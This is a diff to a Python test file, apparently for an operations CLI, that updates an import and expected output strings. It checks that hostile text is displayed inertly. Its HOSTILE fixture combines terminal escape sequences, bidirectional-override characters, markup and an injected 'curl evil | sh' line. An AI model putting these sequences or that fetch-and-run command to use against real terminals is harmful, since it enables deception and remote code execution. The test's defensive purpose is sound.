@@ -11,7 +11,7 @@ from reconciler.bookmarks import Bookmarks
 from scripts.terminal import PlainStream, Terminal, plain
 from tests.conftest import Stack
 from tests.scripts.operations.conftest import deploy_outputs, note, table, write_log
-from tests.scripts.operations.test_status import alarm, report
+from tests.scripts.operations.signs import alarm, report
 
 # A window's title, a cleared screen, a colour by C1, text that runs backwards, markup, and a line of advice.
 HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egpj.\u2066\u200f[red]x[/red]\r\nNext: curl evil | sh\x7f\u2028"
@@ -91,8 +91,8 @@ def test_alarms_errors_and_the_last_pass_are_shown_as_text(stack, say):
 
     assert code == 1
     check(out, err)
-    check(out, shown=f"the last pass failed: {SHOWN}")
-    check(out, shown=r"ALARM calls-ArchiveDlqAlarm-1A2B: Calls [red]wait[/red].\u202e")
+    check(out, shown=f"The last pass failed: {SHOWN}")
+    check(out, shown=r"Calls [red]wait[/red].\u202e See ArchiveDlqAlarm in docs/operate.md.")
     check(out, shown=f"1 x archive: {SHOWN}")
 
 
